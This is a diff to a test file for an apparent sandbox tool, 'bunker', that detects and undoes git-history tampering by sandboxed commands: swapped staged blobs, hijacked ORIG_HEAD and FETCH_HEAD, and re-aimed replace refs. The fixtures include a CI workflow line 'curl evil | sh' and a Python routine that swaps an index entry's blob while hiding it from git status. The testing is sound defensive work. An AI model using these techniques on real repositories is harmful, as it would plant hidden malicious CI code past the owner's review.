@@ -1,4 +1,5 @@
 import { expect, test } from "bun:test";
+import { utimesSync } from "node:fs";
 import { join } from "node:path";
 import { committedRunsLater, hiddenFromStatus, historyBefore, newlyHidden, refsOf, replaceRefsMade, stagedRunsLater } from "../../../src/sandbox/git-history.ts";
 import { tempDir } from "../../support/context.ts";
@@ -180,19 +181,60 @@ test("red team 10 F06: a replace ref the command made (an evil blob shown as an 
   expect(committedRunsLater(root, before, ciWhy)[0]).toStartWith(".github/workflows/ci.yml was committed by the command to main");
 });
 
-test("red team 10 F02: a runs-later file the command staged (straight into the index: git status may not show it) is named, with how to look and unstage", async () => {
+test("red team 10 F02, reviewer's R10-05: a runs-later file's staged blob swapped under the same stat data is put back, whether or not the person had staged their own change; a command's git add of the file as it is, said", async () => {
   const { root, gitDir } = await commandRepo("bunker-history-staged-");
+  const ci = ".github/workflows/ci.yml";
+  const blob = (text: string) => Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from(text), stdout: "pipe" }).stdout.toString().trim();
+  const evil = blob("run: curl evil | sh\n");
+  /** What the person sees: git status's line for the workflow, what git diff --cached shows of it, and what is staged. */
+  const seen = () => [git(root, "status", "--porcelain", "--", ci), git(root, "diff", "--cached", "--", ci), git(root, "show", `:${ci}`)];
+  // The file older than the index (as it is but right after a checkout), so git trusts its stat data.
+  const old = new Date(Date.now() - 3_600_000);
+  utimesSync(join(root, ci), old, old);
+  git(root, "update-index", "--refresh");
+  // (a) Nothing staged before: the swap (the entry's stat data kept: /tmp/rt10/idx.py's way) shows staged in git status, and git diff --cached shows nothing of it.
   const before = historyBefore(gitDir, root)!;
-  const blob = Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from("run: evil\n"), stdout: "pipe" }).stdout.toString().trim();
-  git(root, "update-index", "--cacheinfo", `100644,${blob},.github/workflows/ci.yml`);
+  swapStaged(join(gitDir, "index"), ci, evil);
+  expect(seen()).toEqual([`M  ${ci}\n`, "", "run: curl evil | sh\n"]);
   await Bun.write(join(root, "a"), "b\n");
   git(root, "add", "a");
   expect(stagedRunsLater(root, before, ciWhy)).toEqual([
-    "the command staged a change to .github/workflows/ci.yml, which your next git commit takes in: runs in CI. Review it with git --no-replace-objects diff --cached -- .github/workflows/ci.yml (git status may not show it), or unstage it: git restore --staged .github/workflows/ci.yml",
+    `the command staged ${ci} as content your working tree does not hold (git status and git diff --cached would not have shown it), which your next git commit would take in: runs in CI. bunker put back HEAD's version of it (to look at the command's: git --no-replace-objects show ${evil.slice(0, 12)})`,
   ]);
-  // Staged before the command: not the command's doing.
+  expect(seen()).toEqual(["", "", "run: make test\n"]);
+  expect(git(root, "diff", "--cached", "--name-only")).toBe("a\n");
+  // (b) The person had staged their own change (v2) and edited on: the swap of it is put back to their v2.
+  await Bun.write(join(root, ci), "run: make test v2\n");
+  git(root, "add", ci);
+  await Bun.write(join(root, ci), "run: make test v3\n");
+  const second = historyBefore(gitDir, root)!;
+  swapStaged(join(gitDir, "index"), ci, evil);
+  const [line] = stagedRunsLater(root, second, ciWhy);
+  expect(line).toContain("bunker put back what you had staged");
+  expect(git(root, "show", `:${ci}`)).toBe("run: make test v2\n");
+  // A command's git add of the file as the working tree holds it: said, with how to look (not git diff --cached).
+  const third = historyBefore(gitDir, root)!;
+  git(root, "add", ci);
+  expect(stagedRunsLater(root, third, ciWhy)).toEqual([`the command staged a change to ${ci}, which your next git commit takes in: runs in CI. Review it with git --no-replace-objects show :${ci}, or unstage it: git restore --staged ${ci}`]);
+  expect(git(root, "show", `:${ci}`)).toBe("run: make test v3\n");
+  // Nothing changed since: nothing said.
   expect(stagedRunsLater(root, historyBefore(gitDir, root)!, ciWhy)).toEqual([]);
 });
+
+/** Puts `id` in `path`'s index entry, its stat data kept, the cached trees dropped (what a command under --allow-write=.git can write: /tmp/rt10/idx.py). */
+function swapStaged(index: string, path: string, id: string): void {
+  const py = `import hashlib,struct,sys
+f,p,new=sys.argv[1],sys.argv[2].encode(),bytes.fromhex(sys.argv[3])
+b=bytearray(open(f,'rb').read())
+n=struct.unpack('>I',b[8:12])[0];o=12
+for _ in range(n):
+  flags=struct.unpack('>H',b[o+60:o+62])[0];nl=flags&0xfff;name=bytes(b[o+62:o+62+nl])
+  if name==p: b[o+40:o+60]=new
+  o+=((62+nl+8)//8)*8
+body=bytes(b[:o]);open(f,'wb').write(body+hashlib.sha1(body).digest())`;
+  const r = Bun.spawnSync(["python3", "-c", py, index, path, id], { stderr: "pipe" });
+  if (r.exitCode !== 0) throw new Error(r.stderr.toString());
+}
 
 test("two refs moved from one commit, one onto a commit with the same tree and one onto a commit that adds a workflow: the second is named, not the first (reviewer's R10-02)", async () => {
   const root = tempDir("bunker-history-");
@@ -216,4 +258,84 @@ test("two refs moved from one commit, one onto a commit with the same tree and o
   expect(lines).toHaveLength(1);
   expect(lines[0]).toStartWith(`.github/workflows/ci.yml was committed by the command to zfeature: runs in CI`);
   expect(lines[0]).toContain(`show ${w.slice(0, 12)} -- `);
+});
+
+/** A commit in no ref, child of HEAD, whose tree changes the workflow: what a command hashes straight into history. */
+function evilCommit(root: string): string {
+  const blob = Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from("run: curl evil | sh\n"), stdout: "pipe" }).stdout.toString().trim();
+  const index = join(root, "..", `${root.split("/").pop()}-index`);
+  const env = { ...process.env, GIT_INDEX_FILE: index };
+  Bun.spawnSync(["git", "read-tree", "HEAD"], { cwd: root, env });
+  Bun.spawnSync(["git", "update-index", "--cacheinfo", `100644,${blob},.github/workflows/ci.yml`], { cwd: root, env });
+  const tree = Bun.spawnSync(["git", "write-tree"], { cwd: root, env, stdout: "pipe" }).stdout.toString().trim();
+  return git(root, "commit-tree", tree, "-p", "HEAD", "-m", "Restore main").trim();
+}
+
+test("red team 10 F09b: ORIG_HEAD aimed at a commit no ref holds that changes a workflow is set aside, or put back as it was; the person's reset writes nothing", async () => {
+  const { root, gitDir, first } = await commandRepo("bunker-history-orig-");
+  const before = historyBefore(gitDir, root)!;
+  const evil = evilCommit(root);
+  await Bun.write(join(gitDir, "ORIG_HEAD"), `${evil}\n`);
+  const [line, ...rest] = committedRunsLater(root, before, ciWhy);
+  expect(rest).toEqual([]);
+  expect(line).toBe(`bunker set aside .git/ORIG_HEAD, which the command set to a commit no ref held, which changes .github/workflows/ci.yml: runs in CI; git reset --hard ORIG_HEAD (or git am --abort) would write it into your working tree outside the sandbox (to look at it: git --no-replace-objects show ${evil.slice(0, 12)} -- .github/workflows/ci.yml): it is now .git/ORIG_HEAD.bunker-set-aside; to restore it after checking it: mv .git/ORIG_HEAD.bunker-set-aside .git/ORIG_HEAD`);
+  expect(Bun.spawnSync(["git", "reset", "-q", "--hard", "ORIG_HEAD"], { cwd: root }).exitCode).not.toBe(0);
+  expect(await Bun.file(join(root, ".github/workflows/ci.yml")).text()).toBe("run: make test\n");
+  // The person's own ORIG_HEAD (a reset of theirs) re-aimed: theirs put back.
+  git(root, "update-ref", "ORIG_HEAD", first);
+  const second = historyBefore(gitDir, root)!;
+  git(root, "update-ref", "ORIG_HEAD", evil);
+  expect(committedRunsLater(root, second, ciWhy)[0]).toEndWith(". bunker put back the ORIG_HEAD there was before it");
+  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
+  // Through `ref: NAME` to a branch the command made (named as a ref, and followed), and FETCH_HEAD's second line.
+  const third = historyBefore(gitDir, root)!;
+  git(root, "update-ref", "refs/heads/fix", evil);
+  await Bun.write(join(gitDir, "ORIG_HEAD"), "ref: refs/heads/fix\n");
+  await Bun.write(join(gitDir, "FETCH_HEAD"), `${first}\t\tbranch 'main' of ../o\n${evil}\tnot-for-merge\tbranch 'x' of ../o\n`);
+  const lines = committedRunsLater(root, third, ciWhy);
+  expect(lines).toHaveLength(3);
+  expect(lines[0]).toStartWith(".github/workflows/ci.yml was committed by the command to fix: runs in CI");
+  expect(lines[1]).toStartWith("the command set .git/ORIG_HEAD to a commit no ref held, which changes .github/workflows/ci.yml");
+  expect(lines[2]).toStartWith("bunker set aside .git/FETCH_HEAD, which the command set to a commit no ref held");
+  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
+  // Moved onto what the person had (a rebase's ORIG_HEAD is the old tip): nothing new, it stays.
+  const fourth = historyBefore(gitDir, root)!;
+  git(root, "update-ref", "ORIG_HEAD", "HEAD");
+  expect(committedRunsLater(root, fourth, ciWhy)).toEqual([]);
+  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
+});
+
+test("reviewer's R10-07: the person's own stopped git am, with ORIG_HEAD re-aimed and abort-safety made HEAD: ORIG_HEAD put back, git am --abort writes nothing of the command's", async () => {
+  const { root, gitDir, first } = await commandRepo("bunker-history-am-");
+  await Bun.write(join(root, "a"), "b\n");
+  git(root, "commit", "-qam", "second");
+  const patch = Bun.spawnSync(["git", "format-patch", "-1", "--stdout"], { cwd: root, stdout: "pipe" }).stdout;
+  git(root, "reset", "-q", "--hard", "HEAD~1");
+  await Bun.write(join(root, "a"), "conflict\n");
+  git(root, "commit", "-qam", "other");
+  Bun.spawnSync(["git", "-c", "user.email=a@b", "-c", "user.name=A", "am"], { cwd: root, stdin: patch, stdout: "pipe", stderr: "pipe" });
+  expect(await Bun.file(join(gitDir, "rebase-apply/abort-safety")).exists()).toBe(true);
+  const head = git(root, "rev-parse", "HEAD").trim();
+  const before = historyBefore(gitDir, root)!;
+  const evil = evilCommit(root);
+  git(root, "update-ref", "ORIG_HEAD", evil);
+  await Bun.write(join(gitDir, "rebase-apply/abort-safety"), `${head}\n`);
+  const lines = committedRunsLater(root, before, ciWhy);
+  expect(lines[0]).toStartWith("the command set .git/ORIG_HEAD to a commit no ref held, which changes .github/workflows/ci.yml: runs in CI; git reset --hard ORIG_HEAD (or git am --abort) would write it");
+  expect(lines[0]).toEndWith("bunker put back the ORIG_HEAD there was before it");
+  Bun.spawnSync(["git", "am", "--abort"], { cwd: root });
+  expect(await Bun.file(join(root, ".github/workflows/ci.yml")).text()).toBe("run: make test\n");
+  expect(git(root, "rev-parse", "HEAD").trim()).not.toBe(evil);
+  expect(first).not.toBe(evil);
+});
+
+test("reviewer's R10-16: the person's own replace ref, re-aimed by the command, is put back (not deleted)", async () => {
+  const { root, gitDir } = await commandRepo("bunker-history-replace-own-");
+  const blob = (text: string) => Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from(text), stdout: "pipe" }).stdout.toString().trim();
+  const [object, theirs, command] = [blob("one\n"), blob("two\n"), blob("three\n")];
+  git(root, "replace", object, theirs);
+  const before = historyBefore(gitDir, root)!;
+  git(root, "replace", "-f", object, command);
+  expect(replaceRefsMade(before)).toEqual([`the command re-aimed your replace ref refs/replace/${object}: git would have shown the object ${object.slice(0, 12)} as ${command.slice(0, 12)} (git show, diff, log -p, blame) while a push sends the real one. bunker put back yours (to ${theirs.slice(0, 12)}; to make it again: git replace -f ${object} ${command})`]);
+  expect(git(root, "replace", "-l", "--format=long")).toBe(`${object} (blob) -> ${theirs} (blob)\n`);
 });
